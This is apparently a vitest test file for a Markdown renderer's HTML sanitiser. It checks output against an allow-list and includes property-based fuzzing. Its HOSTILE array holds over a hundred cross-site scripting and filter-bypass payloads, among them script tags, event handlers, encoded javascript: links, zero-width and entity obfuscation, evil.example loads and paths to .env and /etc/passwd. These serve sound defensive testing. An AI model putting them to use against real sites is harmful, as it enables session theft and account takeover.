import fc from 'fast-check';
import { parseFragment, type DefaultTreeAdapterTypes } from 'parse5';
import { markdownToHtml } from 'satteri';
import { describe, expect, test } from 'vitest';
import { renderText } from '../../integrations/files/markdown.ts';
import { figureHtml } from '../../src/domain/picture.ts';
import { picture } from '../specimens.ts';

/** All that a text can become, and the attributes of each. */
const ALLOWED: Record<string, readonly string[]> = {
  a: ['href', 'id', 'class', 'data-footnote-ref', 'data-footnote-backref', 'aria-describedby', 'aria-label'], h2: ['id', 'class'], section: ['data-footnotes', 'class'], li: ['id', 'class'], ul: ['class'], ol: ['start'], code: ['class'], th: ['scope'],
  input: ['type', 'checked', 'disabled'], source: ['type', 'srcset', 'sizes'], img: ['src', 'alt', 'width', 'height', 'loading', 'decoding', 'fetchpriority'],
  ...Object.fromEntries(['p', 'em', 'strong', 'del', 'br', 'hr', 'h3', 'h4', 'h5', 'h6', 'blockquote', 'pre', 'sup', 'table', 'thead', 'tbody', 'tr', 'td', 'figure', 'figcaption', 'picture', 'span', 'small'].map((tag) => [tag, []])),
};
const SAFE = /^(https?:\/\/|mailto:|tel:|\/(?![/\\])|#)/;
/** Leads a browser to another place than it seems: it takes a backslash for a slash, and drops line ends and tabs. */
const DISGUISED = /^\/[\t\n\r]*[/\\]|[\t\n\r]/;

/** What a browser would find in the page that a text must not bring there. */
function dangersIn(html: string): string[] {
  const dangers: string[] = [];
  const walk = (node: DefaultTreeAdapterTypes.Node) => {
    if ('tagName' in node) {
      const allowed = ALLOWED[node.tagName];
      if (!allowed) dangers.push(`<${node.tagName}>`);
      for (const { name, value } of node.attrs) {
        if (!allowed?.includes(name)) dangers.push(`${node.tagName} ${name}`);
        if (name === 'href' && (!SAFE.test(value) || DISGUISED.test(value))) dangers.push(`link ${value}`);
        if ((name === 'src' || name === 'srcset') && !/^\/media\/[\w./, -]+$/.test(value)) dangers.push(`${name} ${value}`);
      }
    } else if (node.nodeName !== '#text' && node.nodeName !== '#document-fragment') dangers.push(node.nodeName);
    if ('content' in node) walk(node.content);
    if ('childNodes' in node) node.childNodes.forEach(walk);
  };
  walk(parseFragment(html));
  return dangers;
}

const render = (markdown: string) => renderText(markdown, { file: 'x', line: 1, figure: (name, alt) => figureHtml({ ...picture, name }, 'nl', alt), footnotes: { label: 'Noten', back: '↩' } });

describe('the watchman himself', () => {
  test.each(['<script>1</script>', '<p onclick="1">x</p>', '<a href="javascript:1">x</a>', '<a href="//evil.example">x</a>', '<a href="/\\evil.example">x</a>', '<img src="https://evil.example/x">', '<svg><script>1</script></svg>', '<!-- x -->', '<style>p{}</style>', '<p style="color:red">x</p>', '<template><script>1</script></template>', '<a href="https://x.example" target="_blank">x</a>', '<img src=x srcset="https://evil.example/x 2x">'])('sees %s', (html) => {
    expect(dangersIn(html)).not.toEqual([]);
  });
});

const HOSTILE = [
  // Raw HTML, whole, half and in disguise
  '<script>alert(1)</script>', '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>', 'a <script>alert(1)</script> b', '<scr<script>ipt>alert(1)</scr</script>ipt>', '<script\n>alert(1)</script\n>', '<script', '<img src=x onerror=alert(1)>', '<img src="https://evil.example/pixel.gif">',
  '<svg onload=alert(1)>', '<svg><script>alert(1)</script></svg>', '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>', '<math><mtext><script>alert(1)</script></mtext></math>', '<iframe src="https://evil.example"></iframe>', '<iframe srcdoc="<script>alert(1)</script>">', '<object data="x.swf"></object>', '<embed src="x">', '<form action="https://evil.example"><input name=password></form>',
  '<button formaction="javascript:alert(1)">x</button>', '<style>@import "https://evil.example/x.css"</style>', '<link rel=stylesheet href=https://evil.example/x.css>', '<meta http-equiv="refresh" content="0;url=https://evil.example">', '<base href="https://evil.example/">', '<a href="javascript:alert(1)">x</a>', '<a href="https://ok.example" onmouseover="alert(1)">x</a>', '<body onload=alert(1)>', '<video><source onerror=alert(1)></video>', '<details open ontoggle=alert(1)>',
  '<template><script>alert(1)</script></template>', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', '<!-- --><script>alert(1)</script>', '<!--><img src=x onerror=alert(1)>-->', '<![CDATA[<script>alert(1)</script>]]>', '<?php echo 1 ?><script>alert(1)</script>', '<!DOCTYPE html><script>alert(1)</script>', '<div>\n\n<script>\n\nalert(1)\n\n</script>\n\n</div>', '<p style="position:fixed">x</p>', '</article></main><script>alert(1)</script>', '</p></div><h1>x</h1>', '<h1>x</h1>', '<xmp><img src=x onerror=alert(1)></xmp>', '<textarea><script>alert(1)</script>',
  // Links in every form of Markdown
  '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '[x](javascript&#58;alert(1))', '[x](&#106;&#97;vascript:alert(1))', '[x](&#x6A;avascript:alert(1))', '[x](java&Tab;script:alert(1))', '[x](java&NewLine;script:alert(1))', '[x](<java\tscript:alert(1)>)', '[x](<java\nscript:alert(1)>)', '[x](< javascript:alert(1)>)', '[x](\u0001javascript:alert(1))', '[x](&#1;javascript:alert(1))', '[x](\u200Bjavascript:alert(1))', '[x](&#x202E;javascript:alert(1))', '[x](vbscript:msgbox(1))', '[x](data:text/html,<script>alert(1)</script>)', '[x](data:text/html;base64,PHNjcmlwdD4=)', '[x](file:///etc/passwd)', '[x](blob:https://x)', '[x](view-source:https://x)', '[x](ftp://x)', '[x](feed:javascript:alert(1))', '[x](javascript://example.org/%0Aalert(1))', '[x](livescript:1)',
  '<javascript:alert(1)>', '<JAVASCRIPT:alert(1)>', '<data:text/html,x>', '[x][y]\n\n[y]: javascript:alert(1)', '[y]\n\n[y]: <javascript:alert(1)>', '[x][]\n\n[x]: data:text/html,x', '[y]: javascript:alert(1)\n\n> [y]', '[x](//evil.example)', '[x](/\\evil.example)', '[x](\\\\evil.example)', '[x](/&Tab;/evil.example)', '[x](/&#10;/evil.example)', '[x](https:evil.example)', '[x](http:\\\\evil.example)', '[x](https://user:pass@evil.example)', '[x](https://unhcr.org@evil.example)', 'https://unhcr.org@evil.example',
  '[x](https://ok.example "\\" onclick=alert(1) x=\\"")', '[x](https://ok.example \'" onmouseover="alert(1)\')', '[x](<https://ok.example/" onclick="alert(1)>)', '[x](#" onclick="alert(1))', '[x](/a"onclick=alert(1))', '[a](mailto:x@y.example?body=%0A"><script>)',
  // Pictures
  '![x](javascript:alert(1))', '![x](data:image/svg+xml,<svg onload=alert(1)>)', '![x](https://evil.example/x.png)', '![x](//evil.example/x.png)', '![" onerror="alert(1)](a.jpg)', '![x](a.jpg "\\" onerror=alert(1)")', '![<script>alert(1)</script>](a.jpg)', '![x][y]\n\n[y]: data:image/png,x', '[![x](https://evil.example/p.gif)](javascript:alert(1))', '![](../../.env)', '![</figure><script>alert(1)</script>](a.jpg)',
  // Other parts of Markdown
  '```html onload=alert(1)\n<script>alert(1)</script>\n```', '```"><script>alert(1)</script>\nx\n```', '```js" onclick="alert(1)\nx\n```', '~~~ <img src=x onerror=alert(1)>\nx\n~~~', '    <script>alert(1)</script>', '`<script>alert(1)</script>`', '|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|', '- <script>alert(1)</script>\n- [x](javascript:1)', '> <iframe src=x>', '# <script>alert(1)</script>', '[^1]\n\n[^1]: <script>alert(1)</script>', '[^1]\n\n[^1]: [x](javascript:alert(1))', '[^"onclick=alert(1)]\n\n[^"onclick=alert(1)]: x', '[^<script>]\n\n[^<script>]: x', '&lt;script&gt;alert(1)&lt;/script&gt;', '&#60;script&#62;alert(1)&#60;/script&#62;', '{{constructor.constructor("alert(1)")()}}', '{alert(1)}', '<A.b c={alert(1)}/>', '[[x]](javascript:alert(1))', '[x]: javascript:alert(1)\n[x]: https://ok.example\n\n[x]', '\\<script>alert(1)\\</script>', '<\u0000script>alert(1)</script>', '<scr\u200Bipt>alert(1)</script>', '＜script＞alert(1)＜/script＞',
];

describe('a stolen account can plant nothing', () => {
  test('and it tries: without our filter more than half of these texts are dangerous', () => {
    expect(HOSTILE.filter((markdown) => dangersIn(markdownToHtml(markdown).html).length > 0).length).toBeGreaterThan(HOSTILE.length / 2);
  });

  test.each(HOSTILE)('%j', (markdown) => expect(dangersIn(render(markdown).html)).toEqual([]));

  test.each(HOSTILE)('nor in the middle of a text: %j', (markdown) => {
    expect(dangersIn(render(`Een tekst.\n\n- ${markdown.replaceAll('\n', '\n  ')}\n\n> ${markdown.replaceAll('\n', '\n> ')}\n\n**${markdown}** einde`).html)).toEqual([]);
  });

  test('whatever pieces are put together', () => {
    const pieces = fc.constantFrom('<', '>', '"', "'", '`', '[', ']', '(', ')', '!', '\\', '\n', '\n\n', ' ', '\t', '&', ';', ':', '/', '//', '#', '*', '_', '~', '|', '- ', '> ', '1. ', '[^1]', '[^1]: ', 'javascript:', 'data:', 'https://a.example', 'script', '<script>', '</script>', '<img src=x onerror=1>', 'onclick=1', 'a.jpg', '![', '](', '&#x3C;', '&lt;', '&NewLine;', '&Tab;', '<!--', '-->', '<![CDATA[', ']]>', '\u0000', '\u202E', '```', '<a href="', 'x@y.example', 'www.a.example');
    fc.assert(fc.property(fc.array(pieces, { maxLength: 25 }), (written) => {
      const { html } = render(written.join(''));
      expect(dangersIn(html)).toEqual([]);
    }), { numRuns: 3000 });
  });

  test('whatever is typed', () => {
    fc.assert(fc.property(fc.string({ unit: 'binary', maxLength: 80 }), (text) => dangersIn(render(text).html).length === 0), { numRuns: 1000 });
  });
});
